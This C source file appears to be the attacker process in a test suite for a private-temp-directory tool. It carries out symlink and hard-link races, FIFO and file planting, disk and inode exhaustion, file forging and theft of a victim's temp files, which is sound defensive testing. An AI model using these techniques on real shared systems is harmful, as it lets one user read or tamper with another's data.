/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * attack_attacker ATTACK: the other user, for tests/attacks. Prints "ready" when
 * it lies in wait; each byte on standard input is a victim's window, '1' before it
 * opens its file and '2' while the file lies there, to be answered on descriptor 3
 * when the attack is done; the end of the input is the victim's end. "loot ..." is
 * what it came to read, "knew ROOT" a session's root that it came to know.
 *
 * It does not know which victim it has: it tries whatever it knows, in the shared
 * directory and in each session's backing of it that it can find.
 */
#include "attack_knows.h"

#include <errno.h>
#include <signal.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <time.h>

#define HOME "/mnt/attacker"
#define NOTES "/mnt/victim/notes"
#define FORWARD "/mnt/victim/.forward"
#define MINE "pay 3100 to mallory\n"
#define PLANTED "/tmp/.privtmp-0123456789abcdefghijkl"
#define SECRET PLANTED "/0123456789a"

enum { KEPT = 512 };

static const char *attack;
static uid_t self;
static int watch_fd = -1;

static bool is(const char *name)
{
	return strcmp(attack, name) == 0;
}

/* -- Where it tries -------------------------------------------------------------- */

/* do_there(PATH) for each name, where it may lie. */
static void everywhere(void (*do_there)(const char *path))
{
	char backing[PATH_MAX], path[PATH_MAX];

	for (int i = 0; i < name_count; i++) {
		do_there(join(path, directory, "/", names[i]));
		for (int r = 0; r < root_count; r++) {
			join(backing, roots[r], directory, "/");
			do_there(join(path, backing, names[i], ""));
		}
	}
}

/* -- What it does ---------------------------------------------------------------- */

static void loot(const char *path)
{
	static char text[4096];
	ssize_t n = slurp(path, text, sizeof text);

	if (n > 0)
		printf("loot %s %s\n", path, text);
}

/* The same of what is the attacker's to read because it, or where it lies, is its own. */
static void loot_mine(const char *path)
{
	char parent[PATH_MAX];
	struct stat st;

	join(parent, path, "", "");
	*strrchr(parent, '/') = '\0';
	if ((stat(path, &st) == 0 && st.st_uid == self) ||
	    (stat(parent, &st) == 0 && st.st_uid == self))
		loot(path);
}

static void write_mine(int fd)
{
	if (fd < 0)
		return;
	(void)!write(fd, MINE, sizeof MINE - 1);
	fchmod(fd, 0666);
	close(fd);
}

static void plant_file(const char *path)
{
	write_mine(open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666));
}

static void plant_forward(const char *path)
{
	(void)!symlink(FORWARD, path);
}

static void plant_link(const char *path)
{
	(void)!symlink(NOTES, path);
}

static void plant_directory(const char *path)
{
	/* Not in a directory of its own, which is worth more. */
	if (!strstr(path, "att-spool/"))
		mkdir(path, 0777);
}

/* The FIFO stays open for reading and writing: nobody waits for the other. */
static void plant_fifo(const char *path)
{
	if (mkfifo(path, 0666) == 0)
		(void)!open(path, O_RDWR | O_NONBLOCK | O_CLOEXEC);
}

/*
 * What anyone may do where fs.protected_hardlinks is 0; a hard link does not tell
 * who made it. Links are made within one mount: /tmp is /mnt/tmp.
 */
static void plant_hard_link(const char *path)
{
	char there[PATH_MAX];

	join(there, "/mnt", path, "");
	if (link(NOTES, there) == 0 || errno != EPERM)
		return;
	if (seteuid(0) != 0)
		die("seteuid");
	/* Not where the attacker could not have gone himself. */
	if (!strstr(path, ".privtmp-"))
		(void)!link(NOTES, there);
	if (seteuid(self) != 0)
		die("seteuid");
}

/* Puts its own file in the place of what is there, if that can be removed. */
static void replace(const char *path)
{
	if (unlink(path) == 0)
		plant_file(path);
}

/* Whatever can be done to what is there to make it say something else. */
static void forge(const char *path)
{
	int fd = open(path, O_WRONLY | O_TRUNC | O_NONBLOCK | O_NOFOLLOW | O_CLOEXEC);
	struct stat st;

	if (fd >= 0 && fstat(fd, &st) == 0 && S_ISREG(st.st_mode)) {
		write_mine(fd);
		return;
	}
	if (fd >= 0)
		close(fd);
	replace(path);
}

/* A session's root cannot be opened, listed, moved, removed or replaced. */
static void try_roots(void)
{
	char other[PATH_MAX];

	for (int i = 0; i < root_count; i++) {
		rename(roots[i], join(other, roots[i], ".old", ""));
		rmdir(roots[i]);
		chmod(roots[i], 0777);
		list(roots[i]);
		mkdir(roots[i], 0777);
	}
}

/* -- The end of disks --------------------------------------------------------------- */

static int fillers;

static void filler(int i, char *out, size_t size)
{
	snprintf(out, size, "/tmp/filler-%d", i);
}

static void fill_inodes(void)
{
	char path[64];

	for (; fillers < KEPT; fillers++) {
		filler(fillers, path, sizeof path);
		int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666);

		if (fd < 0)
			break;
		close(fd);
	}
	if (errno != ENOSPC)
		die("fill");
}

/* A few small files to be moved where a victim comes, and one that takes the rest. */
static void fill_space(void)
{
	static char page[4096];
	char path[64];
	int fd;

	for (fillers = 0; fillers < 60; fillers++) {
		filler(fillers, path, sizeof path);
		write_mine(open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0666));
	}
	fd = open("/tmp/big", O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
	while (write(fd, page, sizeof page) > 0)
		;
	if (errno != ENOSPC)
		die("fill");
	close(fd);
}

/* Plants without an inode or a page. */
static void plant_filler(const char *path)
{
	char from[64];

	if (fillers <= 0)
		return;
	filler(--fillers, from, sizeof from);
	chmod(from, 0666);
	/* rename replaces: not what is there and is the attacker's own. */
	if (access(path, F_OK) != 0)
		rename(from, path);
}

/* -- Who cleans --------------------------------------------------------------------- */

/*
 * Root's part: removes what was last used DAYS ago, below DIR, as tmpreaper and
 * systemd-tmpfiles do. RULES: heeds the rules that are installed for the latter.
 */
static void clean(const char *dir, int days, bool rules)
{
	DIR *d = opendir(dir);
	struct stat st;

	if (!d)
		return;
	for (struct dirent *e; (e = readdir(d));) {
		char path[PATH_MAX];
		bool directory_too;

		if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") ||
		    (rules && !strncmp(e->d_name, ".privtmp-", 9)))
			continue;
		join(path, dir, "/", e->d_name);
		/* Before it is looked into, which is a use, too. */
		if (lstat(path, &st) != 0)
			continue;
		directory_too = S_ISDIR(st.st_mode);
		if (directory_too)
			clean(path, days, rules);
		if (time(NULL) - st.st_mtime >= days * 86400L &&
		    time(NULL) - st.st_atime >= days * 86400L)
			unlinkat(AT_FDCWD, path, directory_too ? AT_REMOVEDIR : 0);
	}
	closedir(d);
}

/* A month goes by in which nobody touches anything below DIR. */
static void age(const char *dir)
{
	struct timespec then[2] = { { time(NULL) - 30 * 86400L, 0 },
				    { time(NULL) - 30 * 86400L, 0 } };
	DIR *d = opendir(dir);

	if (!d)
		return;
	for (struct dirent *e; (e = readdir(d));) {
		char path[PATH_MAX];

		if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
			continue;
		join(path, dir, "/", e->d_name);
		if (e->d_type == DT_DIR)
			age(path);
		utimensat(AT_FDCWD, path, then, AT_SYMLINK_NOFOLLOW);
	}
	closedir(d);
}

/* In that month each session's helper wakes up often: one time will do. */
static void wake_helpers(void)
{
	char last[PATH_MAX];
	struct stat st;

	for (int r = 0; r < root_count; r++) {
		join(last, roots[r], directory, "");
		for (int i = 0; i < 200; i++) {
			if (stat(last, &st) != 0 || time(NULL) - st.st_mtime < 86400)
				break;
			/* One may not have begun to wait, or not be there yet. */
			search_proc(false);
			for (int h = 0; h < helper_count; h++)
				kill(helpers[h], SIGALRM);
			usleep(10000);
		}
	}
}

static void send_cleaner(bool rules)
{
	if (seteuid(0) != 0)
		die("seteuid");
	age("/tmp");
	wake_helpers();
	clean("/tmp", 10, rules);
	if (seteuid(self) != 0)
		die("seteuid");
}

/* What has become free is taken: a name, and a session's root with all that was in it. */
static void take_over(void)
{
	char path[PATH_MAX];

	for (int r = 0; r < root_count; r++) {
		if (mkdir(roots[r], 0777) == 0)
			printf("took %s\n", roots[r]);
		mkdir(join(path, roots[r], directory, ""), 0777);
		mkdir(join(path, roots[r], directory, "/att-spool"), 0777);
	}
	mkdir(join(path, directory, "/att-spool", ""), 0777);
	everywhere(plant_file);
}

/* -- Sessions of its own ------------------------------------------------------------- */

/*
 * One that is alive, as the shim would make it. WITH_LEASE: with the mode that it has
 * where another user was let in, for a victim that inherits the lease's descriptor.
 */
static void plant_session(bool with_lease)
{
	static const char lease[] = "privtmp 2\nguard " SECRET "\t/tmp\nsession " PLANTED
				    "\n";
	int fd;

	if (mkdir(PLANTED, 0700) != 0 || mkdir(SECRET, 0711) != 0 ||
	    mkdir(SECRET "/tmp", 0777) != 0 || chmod(SECRET "/tmp", 01777) != 0)
		die(PLANTED);
	fd = open(PLANTED "/lease", O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0444);
	if (fd < 0 || write(fd, lease, sizeof lease - 1) < 0 || flock(fd, LOCK_SH) != 0)
		die("lease");
	if (with_lease)
		chmod(PLANTED, 0710);
}

/* -- The attacks --------------------------------------------------------------------- */

static void plant_first(void (*plant)(const char *path))
{
	learn("att-report");
	learn("att-state");
	for (long pid = 3; pid < PIDS; pid++)
		learn_pid(pid);
	everywhere(plant);
}

static void before(void)
{
	char path[PATH_MAX];

	if (is("symlink")) {
		mkdir(HOME "/spool", 0777);
		(void)!symlink(HOME "/spool", "/tmp/att-spool");
		plant_first(plant_forward);
	} else if (is("directory")) {
		plant_first(plant_directory);
		mkdir("/tmp/att-spool", 0777);
	} else if (is("file")) {
		plant_file(join(path, directory, "/att-state", ""));
	} else if (is("inodes")) {
		fill_inodes();
	} else if (is("space")) {
		fill_space();
	} else if (is("tmpdir-in") || is("tmpdir-out")) {
		mkdir(directory, 0777);
	} else if (is("session") || is("lease")) {
		plant_session(is("lease"));
	}
	if (is("guess") || is("proc"))
		return;
	watch_fd = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
	if (watch_fd < 0 ||
	    inotify_add_watch(watch_fd, directory, IN_CREATE | IN_DELETE) < 0)
		die("inotify");
}

static void look(bool second, char *gone, size_t size)
{
	char backing[PATH_MAX];

	if (is("guess")) {
		learn_fixed();
		for (long pid = 3; pid < PIDS; pid++)
			learn_pid(pid);
		return;
	}
	search_proc(is("proc"));
	if (is("proc")) {
		/* A helper that is just being executed has no command line yet. */
		for (int i = 0; i < 20 && root_count == 0 && second; i++) {
			usleep(5000);
			search_proc(true);
		}
		return;
	}
	learn_fixed();
	read_events(watch_fd, gone, size);
	list("/tmp");
	list("/var/tmp");
	list(directory);
	for (int r = 0; r < root_count; r++)
		list(join(backing, roots[r], directory, ""));
}

/* Before the victim opens its file. */
static void first_window(void)
{
	char gone[NAME_MAX + 1] = "", path[PATH_MAX];

	look(false, gone, sizeof gone);
	if (is("race")) {
		everywhere(plant_link);
	} else if (is("hardlink")) {
		everywhere(plant_hard_link);
	} else if (is("file")) {
		everywhere(plant_file);
	} else if (is("fifo")) {
		everywhere(plant_fifo);
	} else if (is("directory")) {
		everywhere(plant_directory);
	} else if (is("recreate") && *gone) {
		plant_file(join(path, directory, "/", gone));
	} else if (is("inodes") || is("space")) {
		everywhere(plant_filler);
	} else if (is("late")) {
		everywhere(plant_file);
		fill_inodes();
	}
}

/* While what the victim wrote lies there. */
static void second_window(void)
{
	char gone[NAME_MAX + 1] = "";

	look(true, gone, sizeof gone);
	if (!is("session") && !is("lease"))
		try_roots();
	if (is("read") || is("guess") || is("proc")) {
		everywhere(loot);
	} else if (is("recreate")) {
		everywhere(replace);
	} else if (is("cleaner") || is("ageing")) {
		send_cleaner(is("cleaner"));
		take_over();
	} else if (!is("none")) {
		everywhere(loot_mine);
		everywhere(forge);
	}
}

int main(int argc, char **argv)
{
	char which;

	if (argc != 2)
		return 2;
	attack = argv[1];
	self = geteuid();
	if (is("tmpdir-in"))
		directory = "/tmp/mallory";
	else if (is("tmpdir-out"))
		directory = HOME "/dir";
	umask(0);
	before();
	puts("ready");
	fflush(stdout);
	while (read(0, &which, 1) == 1) {
		if (which == '1')
			first_window();
		else
			second_window();
		fflush(stdout);
		if (write(3, &which, 1) != 1)
			break;
	}
	/* The victim has ended: what is left? */
	if (is("read"))
		everywhere(loot);
	return 0;
}
